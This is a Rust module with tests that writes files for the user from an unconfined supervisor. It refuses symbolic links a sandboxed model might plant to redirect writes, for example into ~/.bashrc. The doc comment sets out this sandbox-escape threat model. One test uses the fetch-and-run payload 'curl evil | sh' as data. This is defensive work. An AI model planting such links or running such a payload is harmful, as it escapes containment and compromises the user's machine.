//! Writing a file on the user's behalf without following a link a model could have planted.
//!
//! The supervisor is unconfined, so every file it writes for the user (`run --record`,
//! `ask --record`, `runs export --output`, the demo's project) must land exactly where the user
//! meant: a symbolic link planted in the workspace by an earlier tool call (`out.jsonl ->
//! ~/.bashrc`, or a directory `sub -> ~`) would otherwise turn the write into code execution
//! outside the sandbox. So a write:
//!
//! 1. resolves the target's directory one component at a time, refusing a symbolic link found
//!    inside the workspace (links outside it are the user's own and are followed);
//! 2. opens that directory with `openat2(RESOLVE_NO_SYMLINKS)`, so nothing swapped in after the
//!    check is followed either;
//! 3. refuses a target that is a symbolic link (anywhere) or not a regular file;
//! 4. writes a fresh temporary file in that directory (`O_CREAT | O_EXCL | O_NOFOLLOW`, the
//!    requested mode), fsyncs it, `renameat`s it over the target and fsyncs the directory — so
//!    the target is replaced, never written through (a hard link to another file is untouched
//!    too), and a crash leaves the old file or the new one, never half of either.

use nix::errno::Errno;
use nix::fcntl::{openat, renameat, OFlag, AT_FDCWD};
use nix::sys::stat::{fstatat, Mode, SFlag};
use nix::unistd::{fsync, unlinkat, UnlinkatFlags};
use std::ffi::OsStr;
use std::io::Write;
use std::os::fd::{AsFd, OwnedFd};
use std::path::{Component, Path, PathBuf};
use std::sync::atomic::{AtomicU32, Ordering};

/// Owner read/write only: records, exports and cassettes hold task inputs and tool outputs.
pub const PRIVATE: u32 = 0o600;
/// Owner read/write, others read: files of a project (the demo's).
pub const SHARED: u32 = 0o644;

/// Why a file could not be written for the user; the message says what to do.
#[derive(Debug, thiserror::Error)]
pub enum UserFileError {
    /// A directory on the way to the target is a symbolic link inside the workspace.
    #[error(
        "refusing to write {path}: {link} is a symbolic link inside the workspace {workspace} \
         (a tool call could have planted it). Remove the link or write somewhere else."
    )]
    LinkInWorkspace {
        /// The file that was to be written.
        path: PathBuf,
        /// The symbolic link found on the way.
        link: PathBuf,
        /// The workspace it lies in.
        workspace: PathBuf,
    },
    /// The target itself is a symbolic link (wherever it is).
    #[error(
        "refusing to write {path}: it is a symbolic link, and hanzo-dev never writes through one. \
         Give the path of the file itself, or remove the link."
    )]
    TargetIsLink {
        /// The file that was to be written.
        path: PathBuf,
    },
    /// The target exists and is a directory, device, socket or other non-regular file.
    #[error("refusing to write {path}: it exists and is not a regular file")]
    NotRegular {
        /// The file that was to be written.
        path: PathBuf,
    },
    /// The path ends in `/`, `.` or `..`, so it names no file.
    #[error("cannot write {path}: it does not name a file")]
    NoFileName {
        /// The file that was to be written.
        path: PathBuf,
    },
    /// A system call failed; `action` says which step.
    #[error("cannot write {path}: {action}: {source}")]
    Io {
        /// The file that was to be written.
        path: PathBuf,
        /// The step that failed, as a phrase ("sync it", "find the directory it goes in").
        action: &'static str,
        /// The system's error.
        #[source]
        source: std::io::Error,
    },
}

fn io<'a>(
    path: &'a Path,
    action: &'static str,
) -> impl FnOnce(std::io::Error) -> UserFileError + 'a {
    move |source| UserFileError::Io {
        path: path.to_path_buf(),
        action,
        source,
    }
}

fn errno<'a>(path: &'a Path, action: &'static str) -> impl FnOnce(Errno) -> UserFileError + 'a {
    move |e| UserFileError::Io {
        path: path.to_path_buf(),
        action,
        source: std::io::Error::from(e),
    }
}

/// Write `contents` to `path` (relative paths are taken from the current directory) as
/// described in the module documentation. `workspace` is the directory a model could have
/// written to: the run's workspace, or for commands without one the current directory.
pub fn write_user_file(
    path: &Path,
    contents: &[u8],
    mode: u32,
    workspace: Option<&Path>,
) -> Result<(), UserFileError> {
    let absolute = if path.is_absolute() {
        path.to_path_buf()
    } else {
        std::env::current_dir()
            .map_err(io(path, "find the current directory"))?
            .join(path)
    };
    let (Some(parent), Some(name)) = (absolute.parent(), file_name(&absolute)) else {
        return Err(UserFileError::NoFileName {
            path: path.to_path_buf(),
        });
    };
    let workspace = workspace.and_then(|w| w.canonicalize().ok());
    let dir = resolve_dir(path, parent, workspace.as_deref())?;
    let dir_fd = open_dir(path, &dir)?;
    match fstatat(&dir_fd, name, nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW) {
        Ok(st) => {
            let kind = SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT;
            if kind == SFlag::S_IFLNK {
                return Err(match &workspace {
                    Some(w) if dir.starts_with(w) => UserFileError::LinkInWorkspace {
                        path: path.to_path_buf(),
                        link: dir.join(name),
                        workspace: w.clone(),
                    },
                    _ => UserFileError::TargetIsLink {
                        path: path.to_path_buf(),
                    },
                });
            }
            if kind != SFlag::S_IFREG {
                return Err(UserFileError::NotRegular {
                    path: path.to_path_buf(),
                });
            }
        }
        Err(Errno::ENOENT) => {}
        Err(e) => return Err(errno(path, "inspect it")(e)),
    }
    let (tmp_name, tmp) = create_temp(path, &dir_fd, mode)?;
    let written = write_and_sync(path, tmp, contents).and_then(|()| {
        renameat(&dir_fd, tmp_name.as_str(), &dir_fd, name).map_err(errno(path, "replace it"))
    });
    if let Err(e) = written {
        let _ = unlinkat(&dir_fd, tmp_name.as_str(), UnlinkatFlags::NoRemoveDir);
        return Err(e);
    }
    fsync(&dir_fd).map_err(errno(path, "sync its directory"))
}

/// The last component, when it is a file name (not `..`, `.` or the root).
fn file_name(path: &Path) -> Option<&OsStr> {
    match path.components().next_back()? {
        Component::Normal(n) => Some(n),
        _ => None,
    }
}

/// The canonical directory `parent` names, resolved component by component: a symbolic link in
/// a directory inside `workspace` is refused, any other is followed.
fn resolve_dir(
    target: &Path,
    parent: &Path,
    workspace: Option<&Path>,
) -> Result<PathBuf, UserFileError> {
    let mut cur = PathBuf::from("/");
    for comp in parent.components() {
        match comp {
            Component::RootDir | Component::CurDir | Component::Prefix(_) => {}
            Component::ParentDir => {
                cur.pop();
            }
            Component::Normal(n) => {
                let next = cur.join(n);
                let md = std::fs::symlink_metadata(&next)
                    .map_err(io(target, "find the directory it goes in"))?;
                if md.file_type().is_symlink() {
                    if let Some(w) = workspace.filter(|w| cur.starts_with(w)) {
                        return Err(UserFileError::LinkInWorkspace {
                            path: target.to_path_buf(),
                            link: next,
                            workspace: w.to_path_buf(),
                        });
                    }
                    cur = next
                        .canonicalize()
                        .map_err(io(target, "follow a link in its directory"))?;
                } else {
                    cur = next;
                }
            }
        }
    }
    Ok(cur)
}

/// Open the directory without following any symbolic link on its (canonical) path: one swapped
/// in since [`resolve_dir`] looked is refused by the kernel.
fn open_dir(target: &Path, dir: &Path) -> Result<OwnedFd, UserFileError> {
    let flags = OFlag::O_DIRECTORY | OFlag::O_RDONLY | OFlag::O_CLOEXEC;
    #[cfg(target_os = "linux")]
    {
        use nix::fcntl::{openat2, OpenHow, ResolveFlag};
        let how = OpenHow::new()
            .flags(flags)
            .resolve(ResolveFlag::RESOLVE_NO_SYMLINKS);
        match openat2(AT_FDCWD, dir, how) {
            Ok(fd) => return Ok(fd),
            // Kernels before 5.6: no openat2. The last component is still not followed.
            Err(Errno::ENOSYS) => {}
            Err(Errno::ELOOP) => {
                return Err(UserFileError::TargetIsLink {
                    path: dir.to_path_buf(),
                })
            }
            Err(e) => return Err(errno(target, "open its directory")(e)),
        }
    }
    openat(AT_FDCWD, dir, flags | OFlag::O_NOFOLLOW, Mode::empty())
        .map_err(errno(target, "open its directory"))
}

/// A new file in `dir`, created exclusively (never an existing file, never through a link).
fn create_temp(
    target: &Path,
    dir: &OwnedFd,
    mode: u32,
) -> Result<(String, std::fs::File), UserFileError> {
    static NEXT: AtomicU32 = AtomicU32::new(0);
    let flags =
        OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
    let mode = Mode::from_bits_truncate(mode & 0o777);
    for _ in 0..64 {
        let name = format!(
            ".hanzo-write-{}-{}.tmp",
            std::process::id(),
            NEXT.fetch_add(1, Ordering::Relaxed)
        );
        match openat(dir.as_fd(), name.as_str(), flags, mode) {
            Ok(fd) => return Ok((name, std::fs::File::from(fd))),
            Err(Errno::EEXIST) => continue,
            Err(e) => return Err(errno(target, "create a temporary file beside it")(e)),
        }
    }
    Err(errno(target, "create a temporary file beside it")(
        Errno::EEXIST,
    ))
}

fn write_and_sync(
    target: &Path,
    mut file: std::fs::File,
    contents: &[u8],
) -> Result<(), UserFileError> {
    file.write_all(contents).map_err(io(target, "write it"))?;
    file.sync_all().map_err(io(target, "sync it"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};

    struct Dirs {
        _root: tempfile::TempDir,
        ws: PathBuf,
        outside: PathBuf,
    }

    fn dirs() -> Dirs {
        let root = tempfile::tempdir().expect("tempdir");
        let ws = root.path().join("ws");
        let outside = root.path().join("home");
        std::fs::create_dir_all(&ws).expect("ws");
        std::fs::create_dir_all(&outside).expect("home");
        std::fs::write(outside.join(".bashrc"), "# the user's rc\n").expect("rc");
        Dirs {
            ws: ws.canonicalize().expect("canon"),
            outside: outside.canonicalize().expect("canon"),
            _root: root,
        }
    }

    fn rc(d: &Dirs) -> String {
        std::fs::read_to_string(d.outside.join(".bashrc")).expect("rc")
    }

    #[test]
    fn writes_replace_the_file_with_the_mode_asked_for() {
        let d = dirs();
        let target = d.ws.join("out.json");
        std::fs::write(&target, "old").expect("old");
        write_user_file(&target, b"new", PRIVATE, Some(&d.ws)).expect("write");
        assert_eq!(std::fs::read_to_string(&target).expect("read"), "new");
        let md = std::fs::metadata(&target).expect("md");
        assert_eq!(md.permissions().mode() & 0o777, 0o600);
        // No temporary file is left behind.
        let names: Vec<_> = std::fs::read_dir(&d.ws).expect("ls").collect();
        assert_eq!(names.len(), 1);
    }

    #[test]
    fn a_planted_link_as_the_target_is_refused_and_its_target_untouched() {
        let d = dirs();
        let target = d.ws.join("out.jsonl");
        symlink(d.outside.join(".bashrc"), &target).expect("plant");
        let err = write_user_file(&target, b"curl evil | sh\n", PRIVATE, Some(&d.ws))
            .expect_err("refused");
        assert!(
            matches!(err, UserFileError::LinkInWorkspace { .. }),
            "{err}"
        );
        assert_eq!(rc(&d), "# the user's rc\n");
        // Outside any workspace too: never written through.
        let err = write_user_file(&target, b"x", PRIVATE, None).expect_err("refused");
        assert!(matches!(err, UserFileError::TargetIsLink { .. }), "{err}");
        assert_eq!(rc(&d), "# the user's rc\n");
    }

    #[test]
    fn a_planted_directory_link_inside_the_workspace_is_refused() {
        let d = dirs();
        symlink(&d.outside, d.ws.join("sub")).expect("plant");
        let err = write_user_file(&d.ws.join("sub/.bashrc"), b"evil", PRIVATE, Some(&d.ws))
            .expect_err("refused");
        assert!(
            matches!(err, UserFileError::LinkInWorkspace { .. }),
            "{err}"
        );
        assert_eq!(rc(&d), "# the user's rc\n");
        // Also when the path reaches the workspace through `..`.
        let err = write_user_file(
            &d.outside.join("../ws/sub/.bashrc"),
            b"evil",
            PRIVATE,
            Some(&d.ws),
        )
        .expect_err("refused");
        assert!(
            matches!(err, UserFileError::LinkInWorkspace { .. }),
            "{err}"
        );
        assert_eq!(rc(&d), "# the user's rc\n");
    }

    #[test]
    fn a_users_own_link_outside_the_workspace_is_followed_to_a_directory() {
        let d = dirs();
        let alias = d.outside.join("exports");
        std::fs::create_dir(d.outside.join("real")).expect("real");
        symlink(d.outside.join("real"), &alias).expect("alias");
        write_user_file(&alias.join("run.json"), b"{}", PRIVATE, Some(&d.ws)).expect("write");
        assert_eq!(
            std::fs::read_to_string(d.outside.join("real/run.json")).expect("read"),
            "{}"
        );
    }

    #[test]
    fn a_hard_link_is_replaced_not_written_through() {
        let d = dirs();
        let target = d.ws.join("hard");
        std::fs::hard_link(d.outside.join(".bashrc"), &target).expect("link");
        let before = std::fs::metadata(&target).expect("md").ino();
        write_user_file(&target, b"new", PRIVATE, Some(&d.ws)).expect("write");
        assert_ne!(std::fs::metadata(&target).expect("md").ino(), before);
        assert_eq!(rc(&d), "# the user's rc\n");
    }

    #[test]
    fn directories_and_non_files_are_refused() {
        let d = dirs();
        let err = write_user_file(&d.ws, b"x", PRIVATE, Some(&d.ws)).expect_err("a dir");
        assert!(matches!(err, UserFileError::NotRegular { .. }), "{err}");
        let err = write_user_file(Path::new("/"), b"x", PRIVATE, None).expect_err("root");
        assert!(matches!(err, UserFileError::NoFileName { .. }), "{err}");
        let err = write_user_file(&d.ws.join("missing/x"), b"x", PRIVATE, Some(&d.ws))
            .expect_err("no dir");
        assert!(matches!(err, UserFileError::Io { .. }), "{err}");
    }
}
